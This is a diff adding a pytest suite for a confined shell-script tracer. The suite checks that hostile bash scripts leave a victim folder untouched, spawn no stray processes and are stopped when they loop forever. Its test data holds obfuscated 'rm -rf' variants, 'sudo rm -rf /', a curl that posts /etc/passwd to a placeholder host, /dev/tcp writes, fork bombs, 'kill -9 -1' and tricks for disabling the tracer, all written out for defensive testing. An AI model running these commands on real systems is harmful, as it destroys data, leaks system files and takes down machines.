@@ -1,0 +1,150 @@
+"""Scripts that mean harm, run for real: nothing outside the throwaway folder changes, all end.
+
+The shell's wall (nothing is looked up, nothing runs) is there everywhere. Where the kernel has
+Landlock and seccomp, what bash does by itself is kept in too.
+"""
+
+from __future__ import annotations
+
+import os
+import time
+from pathlib import Path
+
+import pytest
+from parity.recorder import trace, tree_of
+
+from ci_sessions.parity import confine
+from ci_sessions.run.process import descendants
+
+LIMIT = 5.0
+
+
+@pytest.fixture
+def victim(tmp_path):
+    """A home folder that anyone may write: only the walls protect it."""
+    home = tmp_path / "a victim"
+    home.mkdir()
+    (home / "precious.txt").write_text("all of it")
+    home.chmod(0o777)
+    (home / "precious.txt").chmod(0o666)
+    tmp_path.chmod(0o777)
+    return home
+
+
+def unharmed(home):
+    return [p.name for p in home.iterdir()] == ["precious.txt"] and (
+        home / "precious.txt"
+    ).read_text() == "all of it"
+
+
+def hostile(tmp_path, text, limit=LIMIT):
+    """Trace a script that means harm; the recording, and how long it took, in seconds."""
+    before = descendants()
+    began = time.monotonic()
+    recording = trace(tree_of(tmp_path / "tree", text), limit=limit)
+    took = time.monotonic() - began
+    assert descendants() <= before
+    return recording, took
+
+
+def test_what_would_delete_and_send_is_only_recorded(tmp_path, victim):
+    text = f"""
+rm -rf "$HOME" "{victim}"
+/bin/rm -rf "{victim}"
+"/bin/"r'm' -rf "{victim}"
+command rm -rf "{victim}"
+env rm -rf "{victim}"
+PATH=/bin rm -rf "{victim}"
+PATH=/bin; rm -rf "{victim}"; $(echo rm) -rf "{victim}"
+eval "rm -rf '{victim}'"
+builtin eval 'rm -rf "{victim}"'
+hash -p /bin/rm gone; gone -rf "{victim}"
+find "{victim}" -delete
+find "{victim}" -exec rm {{}} +
+sed -i d "{victim}/precious.txt"
+sed 'w {victim}/made' /dev/null
+awk 'BEGIN {{ print > "{victim}/made" }}'
+sort -o "{victim}/made" /dev/null
+tee "{victim}/made" </dev/null
+mv "{victim}/precious.txt" .
+ln -s "{victim}" link; rm -rf link/precious.txt link/
+cp /dev/null "{victim}/precious.txt"
+curl -d @/etc/passwd https://example.invalid
+python -c 'import shutil; shutil.rmtree("{victim}")'
+sudo rm -rf /
+exec /bin/rm -rf "{victim}"
+"""
+    recording, _ = hostile(tmp_path, text)
+    assert unharmed(victim)
+    names = [c.argv[0] for c in recording.commands]
+    assert (names.count("rm"), names.count("/bin/rm")) == (9, 3)
+    assert {"curl", "python", "sudo", "gone"} <= set(names)
+
+
+needs_landlock = pytest.mark.skipif(
+    not confine.has_landlock(), reason="this kernel has no Landlock, the wall that is tested"
+)
+
+
+@needs_landlock
+def test_what_bash_does_by_itself_stays_inside(tmp_path, victim):
+    text = f"""
+echo gone > "{victim}/precious.txt"
+echo made > "{victim}/made"
+: >| "{victim}/precious.txt"
+exec 3<> "{victim}/precious.txt"; echo x >&3
+(exec 5<>/dev/tcp/127.0.0.1/{{port}} && echo sent >&5)
+echo sent > /dev/udp/127.0.0.1/9
+python survived.py
+"""
+    recording, _ = hostile(tmp_path, text)
+    assert unharmed(victim)
+    assert recording.commands[-1].argv == ("python", "survived.py")
+
+
+def test_no_process_outside_is_ended(tmp_path):
+    """``kill`` is no builtin while a script is traced, however it is called."""
+    text = f"kill -9 {os.getpid()}\nbuiltin kill -9 -1\nenable kill\nkill -9 -1\npython alive.py\n"
+    recording, _ = hostile(tmp_path, text)
+    assert recording.commands[-1].argv == ("python", "alive.py")
+
+
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        ("while :; do :; done\n", "an endless loop?"),
+        ("f() { f; }; f\n", ""),
+        ("x=x; while :; do x=$x$x; done\n", ""),
+        ("while :; do echo 0123456789 >> big; done\n", "an endless loop?"),
+        ("read -r line < <(while :; do echo; done); cat /dev/zero\n", ""),
+        ("printf '%999999999d' 1 > big\n", ""),
+        (":() { : | : & }; :\n", ""),
+        ("f() { f & f & }; f; wait\n", ""),
+        ("trap '' TERM INT HUP; (while :; do :; done) & wait\n", ""),
+        ("set -m; (while :; do read -t 1 < /dev/zero; done) & disown; python last.py\n", ""),
+        ("mkfifo p; read -r x < p\n", ""),
+        ("read -r -t 999 x <> <(:)\n", ""),
+        ("exec 3< <(while :; do :; done); wait\n", ""),
+    ],
+)  # fmt: skip
+def test_what_would_not_end_is_ended(tmp_path, text, says):
+    recording, took = hostile(tmp_path, text)
+    assert took < LIMIT + 15
+    assert says in recording.fault
+
+
+def test_a_script_that_hides_its_commands_is_not_called_equal(tmp_path):
+    """Turning the recorder off by its own means is a fault, not a shorter recording."""
+    for text in ("trap - DEBUG\npython hidden.py\n", "set +o functrace\npython hidden.py\n"):
+        assert hostile(tmp_path, text)[0].fault
+    recording, _ = hostile(
+        tmp_path, "unset -f __ci_run python\n__ci_run() { :; }\npython seen.py\n"
+    )
+    assert recording.fault or recording.commands[-1].argv == ("python", "seen.py")
+
+
+def test_the_throwaway_folder_is_gone_afterwards(tmp_path, monkeypatch):
+    spare = Path(os.environ.get("TMPDIR", "/tmp"))  # noqa: S108
+    before = set(spare.glob("ci-sessions-*"))
+    hostile(tmp_path, "mkdir -p a/b; chmod 000 a; python x.py\n")
+    assert set(spare.glob("ci-sessions-*")) <= before
